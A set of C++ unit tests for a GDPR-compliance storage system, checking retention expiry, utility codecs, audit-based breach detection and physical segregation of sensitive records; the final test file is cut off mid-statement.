      PutNote(*os, 1, "PD_TTL_MARKER_MOVING", /*ttl=*/500);

  // Lengthen before expiry: the old deadline passes harmlessly.
  {
    auto m = os->dbfs().GetMembrane(kDed, id);
    ASSERT_TRUE(m.ok());
    m->SetTtl(10'000);
    ASSERT_TRUE(os->dbfs().UpdateMembrane(kDed, id, *m).ok());
  }
  os->sim_clock()->Advance(1000);  // past the ORIGINAL deadline
  ASSERT_TRUE(os->retention().SweepOnce().ok());
  EXPECT_TRUE(os->dbfs().Get(kDed, id).ok());

  // Shorten: the record is instantly overdue and the next sweep reaps it.
  {
    auto m = os->dbfs().GetMembrane(kDed, id);
    ASSERT_TRUE(m.ok());
    m->SetTtl(100);
    ASSERT_TRUE(os->dbfs().UpdateMembrane(kDed, id, *m).ok());
  }
  ASSERT_TRUE(os->retention().SweepOnce().ok());
  EXPECT_EQ(os->dbfs().Get(kDed, id).status().code(), StatusCode::kNotFound);
  EXPECT_FALSE(*PdMediumContains(*os, "PD_TTL_MARKER_MOVING"));
}

// With worker threads the sweep fans each page batch over the DED pool
// (ParallelFor); a multi-subject expired population must still be erased
// exactly once each, with the per-shard reports summing correctly. Runs
// under TSan in CI.
TEST_F(RetentionTest, ParallelSweepOverExecutorErasesEverySubject) {
  core::BootConfig config;
  config.worker_threads = 4;
  std::unique_ptr<core::RgpdOs> os = BootWorld(config);
  constexpr dbfs::SubjectId kSubjects = 12;
  std::vector<dbfs::RecordId> doomed;
  for (dbfs::SubjectId s = 1; s <= kSubjects; ++s) {
    doomed.push_back(PutNote(*os, s, "PD_TTL_PAR_" + std::to_string(s),
                             /*ttl=*/500));
    PutNote(*os, s, "PD_TTL_PAR_KEEP_" + std::to_string(s), /*ttl=*/0);
  }
  os->sim_clock()->Advance(1000);

  auto report = os->retention().SweepOnce();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_EQ(report->expired, kSubjects);
  EXPECT_EQ(report->erased, kSubjects);
  EXPECT_EQ(report->scanned, 2u * kSubjects);
  EXPECT_EQ(report->deferred, 0u);

  for (dbfs::SubjectId s = 1; s <= kSubjects; ++s) {
    EXPECT_EQ(os->dbfs().Get(kDed, doomed[s - 1]).status().code(),
              StatusCode::kNotFound);
    EXPECT_FALSE(
        *PdMediumContains(*os, "PD_TTL_PAR_" + std::to_string(s)));
    EXPECT_TRUE(*PdMediumContains(*os, "PD_TTL_PAR_KEEP_" + std::to_string(s)));
  }
  EXPECT_EQ(os->retention().total_erased(), kSubjects);
}

}  // namespace
}  // namespace rgpdos
