// Unit tests for the common substrate: status/result, byte codec, crc32,
// hex, rng/zipf, clocks.
#include <gtest/gtest.h>

#include <map>

#include "common/bytes.hpp"
#include "common/clock.hpp"
#include "common/crc32.hpp"
#include "common/hex.hpp"
#include "common/rng.hpp"
#include "common/status.hpp"

namespace rgpdos {
namespace {

// ---- Status / Result -----------------------------------------------------------

TEST(StatusTest, DefaultIsOk) {
  Status s;
  EXPECT_TRUE(s.ok());
  EXPECT_EQ(s.code(), StatusCode::kOk);
  EXPECT_EQ(s.ToString(), "OK");
}

TEST(StatusTest, FactoriesCarryCodeAndMessage) {
  const Status s = ConsentDenied("purpose x");
  EXPECT_FALSE(s.ok());
  EXPECT_EQ(s.code(), StatusCode::kConsentDenied);
  EXPECT_EQ(s.ToString(), "CONSENT_DENIED: purpose x");
}

TEST(StatusTest, EveryCodeHasAName) {
  for (int code = 0; code <= static_cast<int>(StatusCode::kErased); ++code) {
    EXPECT_NE(StatusCodeName(static_cast<StatusCode>(code)), "UNKNOWN");
  }
}

TEST(ResultTest, HoldsValue) {
  Result<int> r(42);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(*r, 42);
  EXPECT_EQ(r.value_or(7), 42);
}

TEST(ResultTest, HoldsError) {
  Result<int> r = NotFound("nope");
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kNotFound);
  EXPECT_EQ(r.value_or(7), 7);
  EXPECT_THROW((void)r.value(), BadResultAccess);
}

TEST(ResultTest, OkStatusWithoutValueBecomesInternalError) {
  Result<int> r{Status::Ok()};
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kInternal);
}

TEST(ResultTest, AssignOrReturnPropagates) {
  auto fail = []() -> Result<int> { return NotFound("x"); };
  auto wrapper = [&]() -> Result<int> {
    RGPD_ASSIGN_OR_RETURN(int v, fail());
    return v + 1;
  };
  EXPECT_EQ(wrapper().status().code(), StatusCode::kNotFound);
}

// ---- ByteWriter / ByteReader ------------------------------------------------------

TEST(BytesTest, FixedWidthRoundTrip) {
  ByteWriter w;
  w.PutU8(0xAB);
  w.PutU16(0x1234);
  w.PutU32(0xDEADBEEF);
  w.PutU64(0x0123456789ABCDEFULL);
  w.PutI64(-42);
  w.PutF64(3.25);
  w.PutBool(true);
  ByteReader r(w.buffer());
  EXPECT_EQ(*r.GetU8(), 0xAB);
  EXPECT_EQ(*r.GetU16(), 0x1234);
  EXPECT_EQ(*r.GetU32(), 0xDEADBEEFu);
  EXPECT_EQ(*r.GetU64(), 0x0123456789ABCDEFULL);
  EXPECT_EQ(*r.GetI64(), -42);
  EXPECT_EQ(*r.GetF64(), 3.25);
  EXPECT_EQ(*r.GetBool(), true);
  EXPECT_TRUE(r.exhausted());
}

TEST(BytesTest, VarintRoundTripBoundaries) {
  const std::uint64_t cases[] = {0,    1,    127,        128,
                                 129,  255,  16383,      16384,
                                 1u << 21,   (1ull << 35) + 17,
                                 ~0ull};
  for (std::uint64_t v : cases) {
    ByteWriter w;
    w.PutVarint(v);
    ByteReader r(w.buffer());
    EXPECT_EQ(*r.GetVarint(), v) << v;
    EXPECT_TRUE(r.exhausted());
  }
}

TEST(BytesTest, StringAndBytesRoundTrip) {
  ByteWriter w;
  w.PutString("hello");
  w.PutBytes(Bytes{1, 2, 3});
  w.PutString("");
  ByteReader r(w.buffer());
  EXPECT_EQ(*r.GetString(), "hello");
  EXPECT_EQ(*r.GetBytes(), (Bytes{1, 2, 3}));
  EXPECT_EQ(*r.GetString(), "");
}

TEST(BytesTest, TruncatedInputIsCorruption) {
  ByteWriter w;
  w.PutU64(1);
  Bytes truncated = w.Take();
  truncated.resize(4);
  ByteReader r(truncated);
  EXPECT_EQ(r.GetU64().status().code(), StatusCode::kCorruption);
}

TEST(BytesTest, TruncatedVarintIsCorruption) {
  const Bytes bad = {0x80, 0x80};  // continuation bits, no terminator
  ByteReader r(bad);
  EXPECT_EQ(r.GetVarint().status().code(), StatusCode::kCorruption);
}

TEST(BytesTest, BoolOutOfRangeIsCorruption) {
  const Bytes bad = {2};
  ByteReader r(bad);
  EXPECT_EQ(r.GetBool().status().code(), StatusCode::kCorruption);
}

TEST(BytesTest, ContainsSubsequence) {
  const Bytes hay = ToBytes("the quick brown fox");
  EXPECT_TRUE(ContainsSubsequence(hay, ToBytes("quick")));
  EXPECT_TRUE(ContainsSubsequence(hay, ToBytes("the")));
  EXPECT_TRUE(ContainsSubsequence(hay, ToBytes("fox")));
  EXPECT_FALSE(ContainsSubsequence(hay, ToBytes("lazy")));
  EXPECT_TRUE(ContainsSubsequence(hay, ByteSpan{}));
  EXPECT_FALSE(ContainsSubsequence(ByteSpan{}, ToBytes("x")));
}

// ---- CRC32 ------------------------------------------------------------------------

TEST(Crc32Test, KnownVectors) {
  // Standard check value for "123456789".
  EXPECT_EQ(Crc32(ToBytes("123456789")), 0xCBF43926u);
  EXPECT_EQ(Crc32(ByteSpan{}), 0x00000000u);
  EXPECT_EQ(Crc32(ToBytes("a")), 0xE8B7BE43u);
}

TEST(Crc32Test, IncrementalMatchesOneShot) {
  const Bytes data = ToBytes("hello crc32 world, split me up");
  Crc32Accumulator acc;
  acc.Update(ByteSpan(data.data(), 5));
  acc.Update(ByteSpan(data.data() + 5, data.size() - 5));
  EXPECT_EQ(acc.value(), Crc32(data));
}

// ---- Hex --------------------------------------------------------------------------

TEST(HexTest, RoundTrip) {
  const Bytes data = {0x00, 0xFF, 0x12, 0xAB};
  EXPECT_EQ(HexEncode(data), "00ff12ab");
  EXPECT_EQ(*HexDecode("00ff12ab"), data);
  EXPECT_EQ(*HexDecode("00FF12AB"), data);
}

TEST(HexTest, RejectsBadInput) {
  EXPECT_FALSE(HexDecode("abc").ok());   // odd length
  EXPECT_FALSE(HexDecode("zz").ok());    // non-hex
  EXPECT_TRUE(HexDecode("").ok());       // empty is valid
}

// ---- Rng / Zipf ----------------------------------------------------------------------

TEST(RngTest, DeterministicForSameSeed) {
  Rng a(123), b(123);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.NextU64(), b.NextU64());
}

TEST(RngTest, DifferentSeedsDiffer) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) {
    if (a.NextU64() == b.NextU64()) ++same;
  }
  EXPECT_LT(same, 4);
}

TEST(RngTest, NextBelowStaysInBounds) {
  Rng rng(7);
  for (int i = 0; i < 10000; ++i) {
    EXPECT_LT(rng.NextBelow(13), 13u);
  }
}

TEST(RngTest, NextInRangeInclusive) {
  Rng rng(7);
  bool saw_lo = false, saw_hi = false;
  for (int i = 0; i < 10000; ++i) {
    const std::int64_t v = rng.NextInRange(-3, 3);
    EXPECT_GE(v, -3);
    EXPECT_LE(v, 3);
    saw_lo |= v == -3;
    saw_hi |= v == 3;
  }
  EXPECT_TRUE(saw_lo);
  EXPECT_TRUE(saw_hi);
}

TEST(RngTest, NextDoubleInUnitInterval) {
  Rng rng(9);
  for (int i = 0; i < 10000; ++i) {
    const double d = rng.NextDouble();
    EXPECT_GE(d, 0.0);
    EXPECT_LT(d, 1.0);
  }
}

TEST(RngTest, NamesAreLowercaseAscii) {
  Rng rng(1);
  const std::string name = rng.NextName(32);
  EXPECT_EQ(name.size(), 32u);
  for (char c : name) {
    EXPECT_GE(c, 'a');
    EXPECT_LE(c, 'z');
  }
}

TEST(ZipfTest, SkewsTowardsLowRanks) {
  Zipf zipf(1000, 0.99, 7);
  std::map<std::uint64_t, int> counts;
  for (int i = 0; i < 20000; ++i) ++counts[zipf.Next()];
  // Rank 0 must dominate rank 100 by a wide margin under theta=0.99.
  EXPECT_GT(counts[0], counts[100] * 3);
  for (const auto& [rank, count] : counts) EXPECT_LT(rank, 1000u);
}

TEST(ZipfTest, UniformWhenThetaIsZero) {
  Zipf zipf(10, 1e-9, 7);
  std::map<std::uint64_t, int> counts;
  for (int i = 0; i < 50000; ++i) ++counts[zipf.Next()];
  for (const auto& [rank, count] : counts) {
    EXPECT_NEAR(count, 5000, 700) << "rank " << rank;
  }
}

// ---- Clocks -----------------------------------------------------------------------

TEST(ClockTest, SimClockAdvances) {
  SimClock clock(100);
  EXPECT_EQ(clock.Now(), 100);
  clock.Advance(50);
  EXPECT_EQ(clock.Now(), 150);
  clock.Set(7);
  EXPECT_EQ(clock.Now(), 7);
}

TEST(ClockTest, SystemClockIsRecent) {
  SystemClock clock;
  // Sanity: after 2020-01-01 and before 2100.
  EXPECT_GT(clock.Now(), 1'577'836'800'000'000LL);
  EXPECT_LT(clock.Now(), 4'102'444'800'000'000LL);
}

TEST(ClockTest, StopwatchMeasuresSomething) {
  Stopwatch watch;
  volatile std::uint64_t sink = 0;
  for (int i = 0; i < 100000; ++i) sink += i;
  EXPECT_GT(watch.ElapsedNanos(), 0);
}

}  // namespace
}  // namespace rgpdos
