// Tests for breach detection (Art. 33 analogue over the audit trail) and
// the DBFS sensitivity segregation report.
#include <gtest/gtest.h>

#include "core/rgpdos.hpp"
#include "sentinel/breach.hpp"

namespace rgpdos {
namespace {

constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

// ---- Breach detection -----------------------------------------------------------

class BreachTest : public ::testing::Test {
 protected:
  SimClock clock_{0};
  sentinel::AuditSink audit_;
  sentinel::Sentinel sentinel_{sentinel::SecurityPolicy::RgpdDefault(),
                               &clock_, &audit_};

  void Probe(sentinel::Domain actor, sentinel::Domain target,
             TimeMicros at) {
    clock_.Set(at);
    (void)sentinel_.Enforce({actor, target, sentinel::Operation::kRead,
                             "probe"});
  }
};

TEST_F(BreachTest, DenialBurstIsDetected) {
  // Ten outside probes in 30 seconds against DBFS.
  for (int i = 0; i < 10; ++i) {
    Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
          i * 3 * kMicrosPerSecond);
  }
  const auto findings =
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{});
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].actor, sentinel::Domain::kOutside);
  EXPECT_EQ(findings[0].target, sentinel::Domain::kDbfs);
  EXPECT_EQ(findings[0].denied_attempts, 10u);
  EXPECT_NE(findings[0].notification.find("Art.33"), std::string::npos);
  EXPECT_NE(findings[0].notification.find("10 denied attempts"),
            std::string::npos);
}

TEST_F(BreachTest, SlowProbingStaysBelowThreshold) {
  // One probe every 5 minutes: never 5 within any 60s window.
  for (int i = 0; i < 20; ++i) {
    Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
          i * 300 * kMicrosPerSecond);
  }
  EXPECT_TRUE(
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{}).empty());
}

TEST_F(BreachTest, AllowedTrafficIsNotABreach) {
  for (int i = 0; i < 50; ++i) {
    Probe(kDed, sentinel::Domain::kDbfs, i * kMicrosPerSecond);
  }
  EXPECT_TRUE(
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{}).empty());
}

TEST_F(BreachTest, DistinctActorsAreSeparateFindings) {
  for (int i = 0; i < 6; ++i) {
    Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
          i * kMicrosPerSecond);
    Probe(sentinel::Domain::kApplication, sentinel::Domain::kDbfs,
          i * kMicrosPerSecond);
  }
  const auto findings =
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{});
  EXPECT_EQ(findings.size(), 2u);
}

TEST_F(BreachTest, WindowBoundaryIsRespected) {
  sentinel::BreachPolicy policy;
  policy.threshold = 3;
  policy.window = 10 * kMicrosPerSecond;
  // Three denials spread over 25s: any 10s window holds at most 2.
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs, 0);
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
        12 * kMicrosPerSecond);
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
        25 * kMicrosPerSecond);
  EXPECT_TRUE(sentinel::DetectBreaches(audit_, policy).empty());
  // A fourth inside the last one's window tips it only if <=10s apart.
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
        26 * kMicrosPerSecond);
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
        27 * kMicrosPerSecond);
  const auto findings = sentinel::DetectBreaches(audit_, policy);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].denied_attempts, 3u);
}

// ---- Sensitivity report -----------------------------------------------------------

TEST(SensitivityReportTest, CountsPerLevelAndType) {
  core::BootConfig config;
  config.use_sim_clock = true;
  auto os = core::RgpdOs::Boot(config);
  ASSERT_TRUE(os.ok());
  ASSERT_TRUE((*os)
                  ->DeclareTypes(R"(
type ssn { fields { number: string }; consent { p: all };
           origin: subject; sensitivity: high; }
type name { fields { value: string }; consent { p: all };
            origin: subject; sensitivity: low; }
type address { fields { street: string }; consent { p: all };
               origin: subject; sensitivity: medium; }
)")
                  .ok());
  auto put = [&](const char* type, std::uint64_t subject) {
    auto decl = (*os)->dbfs().GetType(kDed, type);
    ASSERT_TRUE(decl.ok());
    membrane::Membrane m =
        (*decl)->DefaultMembrane(subject, (*os)->clock().Now());
    ASSERT_TRUE((*os)
                    ->dbfs()
                    .Put(kDed, subject, type,
                         db::Row{db::Value(std::string("v"))}, std::move(m))
                    .ok());
  };
  put("ssn", 1);
  put("ssn", 2);
  put("name", 1);
  put("address", 1);

  auto report =
      (*os)->dbfs().ReportSensitivity(sentinel::Domain::kSysadmin);
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_EQ(report->by_level[0], 1u);  // low
  EXPECT_EQ(report->by_level[1], 1u);  // medium
  EXPECT_EQ(report->by_level[2], 2u);  // high
  EXPECT_EQ(report->high_by_type.at("ssn"), 2u);
  // Applications cannot pull the report.
  EXPECT_EQ((*os)
                ->dbfs()
                .ReportSensitivity(sentinel::Domain::kApplication)
                .status()
                .code(),
            StatusCode::kAccessBlocked);
}


// ---- Physical sensitivity segregation -------------------------------------------------

/// Blocks containing `needle` summed over every PD shard's primary
/// medium — under RGPDOS_SHARDS the subject routes to one of N devices.
std::size_t CountPdBlocks(core::RgpdOs& os, const Bytes& needle) {
  std::size_t total = 0;
  for (std::size_t s = 0; s < os.shard_count(); ++s)
    total += blockdev::CountBlocksContaining(os.dbfs_device(s), needle);
  return total;
}

/// Same sum over every shard's sensitive (split) medium.
std::size_t CountSensitiveBlocks(core::RgpdOs& os, const Bytes& needle) {
  std::size_t total = 0;
  for (std::size_t s = 0; s < os.shard_count(); ++s)
    if (os.sensitive_device(s) != nullptr)
      total += blockdev::CountBlocksContaining(*os.sensitive_device(s), needle);
  return total;
}

TEST(SensitivitySegregationTest, HighSensitivityBytesLiveOnTheSecondDevice) {
  core::BootConfig config;
  config.use_sim_clock = true;
  config.split_sensitive = true;
  auto os = core::RgpdOs::Boot(config);
  ASSERT_TRUE(os.ok()) << os.status().ToString();
  ASSERT_NE((*os)->sensitive_device(), nullptr);
  ASSERT_TRUE((*os)
                  ->DeclareTypes(R"(
type ssn { fields { number: string }; consent { p: all };
           origin: subject; sensitivity: high; }
type nickname { fields { value: string }; consent { p: all };
                origin: subject; sensitivity: low; }
)")
                  .ok());
  auto put = [&](const char* type, const char* value) {
    auto decl = (*os)->dbfs().GetType(kDed, type);
    membrane::Membrane m = (*decl)->DefaultMembrane(1, (*os)->clock().Now());
    auto id = (*os)->dbfs().Put(kDed, 1, type,
                                db::Row{db::Value(std::string(value))},
                                std::move(m));
    ASSERT_TRUE(id.ok()) << id.status().ToString();
  };
  put("ssn", "SSN_SECRET_1234567");
  put("nickname", "NICK_PUBLIC_ish");

  // The SSN's plaintext is ONLY on the sensitive device; the nickname's
  // ONLY on the primary.
  EXPECT_EQ(CountPdBlocks(**os, ToBytes("SSN_SECRET_1234567")), 0u);
  EXPECT_GT(CountSensitiveBlocks(**os, ToBytes("SSN_SECRET_1234567")), 0u);
  EXPECT_GT(CountPdBlocks(**os, ToBytes("NICK_PUBLIC_ish")), 0u);
  EXPECT_EQ(CountSensitiveBlocks(**os, ToBytes("NICK_PUBLIC_ish")), 0u);

  // Reads, rights and erasure all work across the split transparently.
  auto ids = (*os)->dbfs().RecordsOfSubject(kDed, 1);
  ASSERT_TRUE(ids.ok());
  EXPECT_EQ(ids->size(), 2u);
  auto report = (*os)->RightOfAccess(1);
  ASSERT_TRUE(report.ok());
  EXPECT_NE(report->find("SSN_SECRET_1234567"), std::string::npos);

  ASSERT_TRUE((*os)->RightToBeForgotten(1).ok());
  EXPECT_EQ(CountSensitiveBlocks(**os, ToBytes("SSN_SECRET_1234567")), 0u);
  EXPECT_EQ(CountPdBlocks(**os, ToBytes("NICK_PUBLIC_ish")), 0u);
  // The authority can still recover the sealed SSN from the split store.
  for (dbfs::RecordId id : *ids) {
    auto envelope = (*os)->dbfs().GetEnvelope(kDed, id);
    ASSERT_TRUE(envelope.ok());
    auto recovered = (*os)->authority().Recover(*envelope);
    ASSERT_TRUE(recovered.ok());
  }
}

}  // namespace
}  // namespace rgpdos
