// Tests for breach detection (Art. 33 analogue over the audit trail) and
// the DBFS sensitivity segregation report.
#include <gtest/gtest.h>

#include "blockdev/block_device.hpp"
#include "core/rgpdos.hpp"
#include "inodefs/inode_store.hpp"
#include "sentinel/audit_pipeline.hpp"
#include "sentinel/breach.hpp"

namespace rgpdos {
namespace {

constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

// ---- Breach detection -----------------------------------------------------------

class BreachTest : public ::testing::Test {
 protected:
  SimClock clock_{0};
  sentinel::AuditSink audit_;
  sentinel::Sentinel sentinel_{sentinel::SecurityPolicy::RgpdDefault(),
                               &clock_, &audit_};

  void Probe(sentinel::Domain actor, sentinel::Domain target,
             TimeMicros at) {
    clock_.Set(at);
    (void)sentinel_.Enforce({actor, target, sentinel::Operation::kRead,
                             "probe"});
  }
};

TEST_F(BreachTest, DenialBurstIsDetected) {
  // Ten outside probes in 30 seconds against DBFS.
  for (int i = 0; i < 10; ++i) {
    Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
          i * 3 * kMicrosPerSecond);
  }
  const auto findings =
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{});
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].actor, sentinel::Domain::kOutside);
  EXPECT_EQ(findings[0].target, sentinel::Domain::kDbfs);
  EXPECT_EQ(findings[0].denied_attempts, 10u);
  EXPECT_NE(findings[0].notification.find("Art.33"), std::string::npos);
  EXPECT_NE(findings[0].notification.find("10 denied attempts"),
            std::string::npos);
}

TEST_F(BreachTest, SlowProbingStaysBelowThreshold) {
  // One probe every 5 minutes: never 5 within any 60s window.
  for (int i = 0; i < 20; ++i) {
    Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
          i * 300 * kMicrosPerSecond);
  }
  EXPECT_TRUE(
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{}).empty());
}

TEST_F(BreachTest, AllowedTrafficIsNotABreach) {
  for (int i = 0; i < 50; ++i) {
    Probe(kDed, sentinel::Domain::kDbfs, i * kMicrosPerSecond);
  }
  EXPECT_TRUE(
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{}).empty());
}

TEST_F(BreachTest, DistinctActorsAreSeparateFindings) {
  for (int i = 0; i < 6; ++i) {
    Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
          i * kMicrosPerSecond);
    Probe(sentinel::Domain::kApplication, sentinel::Domain::kDbfs,
          i * kMicrosPerSecond);
  }
  const auto findings =
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{});
  EXPECT_EQ(findings.size(), 2u);
}

TEST_F(BreachTest, WindowBoundaryIsRespected) {
  sentinel::BreachPolicy policy;
  policy.threshold = 3;
  policy.window = 10 * kMicrosPerSecond;
  // Three denials spread over 25s: any 10s window holds at most 2.
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs, 0);
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
        12 * kMicrosPerSecond);
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
        25 * kMicrosPerSecond);
  EXPECT_TRUE(sentinel::DetectBreaches(audit_, policy).empty());
  // A fourth inside the last one's window tips it only if <=10s apart.
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
        26 * kMicrosPerSecond);
  Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
        27 * kMicrosPerSecond);
  const auto findings = sentinel::DetectBreaches(audit_, policy);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].denied_attempts, 3u);
}

// ---- Durable evidence: detection past the ring bound ----------------------

/// Small store + manifest inode for a DurableAuditPipeline, the same
/// substrate the auditlog suite uses.
struct PipelineFixture {
  SimClock clock{1000};
  blockdev::MemBlockDevice medium{512, 4096};
  std::unique_ptr<inodefs::InodeStore> store;
  inodefs::InodeId manifest = inodefs::kInvalidInode;

  PipelineFixture() {
    inodefs::InodeStore::Options options;
    options.inode_count = 64;
    options.journal_blocks = 64;
    auto formatted =
        inodefs::InodeStore::Format(&medium, options, &clock);
    EXPECT_TRUE(formatted.ok()) << formatted.status().ToString();
    store = std::move(*formatted);
    auto id = store->AllocInode(inodefs::InodeKind::kFile);
    EXPECT_TRUE(id.ok());
    manifest = *id;
  }
};

// The PR-10 regression: a denial burst older than the bounded ring's
// horizon must STILL be detected. Before, DetectBreaches only read the
// hot ring, so flooding the sink with benign traffic silently amnestied
// any earlier burst — the attacker's cheapest cover story.
TEST_F(BreachTest, RingEvictionDoesNotHideTheBurstWhenDurable) {
  PipelineFixture fx;
  auto pipeline = sentinel::DurableAuditPipeline::Create(
      fx.store.get(), fx.manifest, sentinel::AuditPipelineOptions{});
  ASSERT_TRUE(pipeline.ok()) << pipeline.status().ToString();
  sentinel::AuditSink audit(/*capacity=*/16);
  audit.AttachPipeline(pipeline->get());
  sentinel::Sentinel guarded{sentinel::SecurityPolicy::RgpdDefault(),
                            &clock_, &audit};

  // The burst: 10 outside probes, then enough ALLOWED traffic to push
  // every one of them out of the 16-entry ring.
  for (int i = 0; i < 10; ++i) {
    clock_.Set(i * 3 * kMicrosPerSecond);
    (void)guarded.Enforce({sentinel::Domain::kOutside,
                           sentinel::Domain::kDbfs,
                           sentinel::Operation::kRead, "probe"});
  }
  for (int i = 0; i < 64; ++i) {
    clock_.Set((100 + i) * kMicrosPerSecond);
    (void)guarded.Enforce({kDed, sentinel::Domain::kDbfs,
                           sentinel::Operation::kRead, "benign"});
  }
  EXPECT_EQ(audit.dropped_count(), 0u);
  EXPECT_GT(audit.evicted_count(), 0u);

  // Ring-only view (the old behaviour): the burst is gone.
  const auto ring_denials =
      audit.Query([](const sentinel::AuditEntry& e) { return !e.allowed; });
  EXPECT_TRUE(
      sentinel::DetectBreaches(ring_denials, sentinel::BreachPolicy{})
          .empty());

  // Sink-level detection goes through the durable pipeline and still
  // sees it.
  const auto findings =
      sentinel::DetectBreaches(audit, sentinel::BreachPolicy{});
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].actor, sentinel::Domain::kOutside);
  EXPECT_EQ(findings[0].target, sentinel::Domain::kDbfs);
  EXPECT_EQ(findings[0].denied_attempts, 10u);
  audit.AttachPipeline(nullptr);
}

// Same burst, detected on the NEXT boot: the evidence survives a restart
// via LoadEntries, so the 72h clock does not reset with the process.
TEST_F(BreachTest, BurstIsStillDetectableAfterRemount) {
  PipelineFixture fx;
  {
    auto pipeline = sentinel::DurableAuditPipeline::Create(
        fx.store.get(), fx.manifest, sentinel::AuditPipelineOptions{});
    ASSERT_TRUE(pipeline.ok());
    sentinel::AuditSink audit(/*capacity=*/16);
    audit.AttachPipeline(pipeline->get());
    sentinel::Sentinel guarded{sentinel::SecurityPolicy::RgpdDefault(),
                              &clock_, &audit};
    for (int i = 0; i < 8; ++i) {
      clock_.Set(i * kMicrosPerSecond);
      (void)guarded.Enforce({sentinel::Domain::kApplication,
                             sentinel::Domain::kDbfs,
                             sentinel::Operation::kWrite, "exfil probe"});
    }
    ASSERT_TRUE((*pipeline)->Flush().ok());
    audit.AttachPipeline(nullptr);
  }

  auto entries = sentinel::DurableAuditPipeline::LoadEntries(fx.store.get(),
                                                             fx.manifest);
  ASSERT_TRUE(entries.ok()) << entries.status().ToString();
  std::vector<sentinel::AuditEntry> denials;
  for (const auto& entry : *entries) {
    if (!entry.allowed) denials.push_back(entry);
  }
  const auto findings =
      sentinel::DetectBreaches(denials, sentinel::BreachPolicy{});
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].actor, sentinel::Domain::kApplication);
  EXPECT_EQ(findings[0].denied_attempts, 8u);
}

// Without a pipeline the sink overload degrades to the hot window — the
// pre-durability behaviour, still correct for what the ring holds.
TEST_F(BreachTest, SinkOverloadWithoutPipelineUsesTheRing) {
  for (int i = 0; i < 6; ++i) {
    Probe(sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
          i * kMicrosPerSecond);
  }
  const auto findings =
      sentinel::DetectBreaches(audit_, sentinel::BreachPolicy{});
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].denied_attempts, 6u);
}

// The vector core must not assume its input is time-ordered: durable
// entries merged across segments (or loaded per-shard) can interleave.
TEST_F(BreachTest, UnorderedEvidenceIsStillOneBurst) {
  std::vector<sentinel::AuditEntry> entries;
  for (int i = 9; i >= 0; --i) {
    sentinel::AuditEntry entry;
    entry.at = i * 3 * kMicrosPerSecond;
    entry.request = {sentinel::Domain::kOutside, sentinel::Domain::kDbfs,
                     sentinel::Operation::kRead, "probe"};
    entry.allowed = false;
    entries.push_back(entry);
  }
  const auto findings =
      sentinel::DetectBreaches(entries, sentinel::BreachPolicy{});
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].denied_attempts, 10u);
}

// ---- Sensitivity report -----------------------------------------------------------

TEST(SensitivityReportTest, CountsPerLevelAndType) {
  core::BootConfig config;
  config.use_sim_clock = true;
  auto os = core::RgpdOs::Boot(config);
  ASSERT_TRUE(os.ok());
  ASSERT_TRUE((*os)
                  ->DeclareTypes(R"(
type ssn { fields { number: string }; consent { p: all };
           origin: subject; sensitivity: high; }
type name { fields { value: string }; consent { p: all };
            origin: subject; sensitivity: low; }
type address { fields { street: string }; consent { p: all };
               origin: subject; sensitivity: medium; }
)")
                  .ok());
  auto put = [&](const char* type, std::uint64_t subject) {
    auto decl = (*os)->dbfs().GetType(kDed, type);
    ASSERT_TRUE(decl.ok());
    membrane::Membrane m =
        (*decl)->DefaultMembrane(subject, (*os)->clock().Now());
    ASSERT_TRUE((*os)
                    ->dbfs()
                    .Put(kDed, subject, type,
                         db::Row{db::Value(std::string("v"))}, std::move(m))
                    .ok());
  };
  put("ssn", 1);
  put("ssn", 2);
  put("name", 1);
  put("address", 1);

  auto report =
      (*os)->dbfs().ReportSensitivity(sentinel::Domain::kSysadmin);
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_EQ(report->by_level[0], 1u);  // low
  EXPECT_EQ(report->by_level[1], 1u);  // medium
  EXPECT_EQ(report->by_level[2], 2u);  // high
  EXPECT_EQ(report->high_by_type.at("ssn"), 2u);
  // Applications cannot pull the report.
  EXPECT_EQ((*os)
